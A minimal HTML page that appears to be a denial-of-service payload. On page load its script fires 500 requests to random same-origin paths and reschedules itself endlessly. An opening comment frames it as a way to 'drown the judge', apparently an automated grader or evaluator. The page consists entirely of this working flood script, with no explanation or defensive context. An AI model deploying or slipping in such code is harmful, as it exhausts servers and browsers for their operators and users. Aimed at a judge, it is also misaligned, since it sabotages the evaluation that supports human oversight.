<!-- Drown the judge in messages: requests and frames without end. -->
<html><head><title>x</title></head><body><script>
const flood = () => { for (let n = 0; n < 500; n++) fetch("/" + Math.random()).catch(() => {}); setTimeout(flood, 0); };
flood();
</script></body>
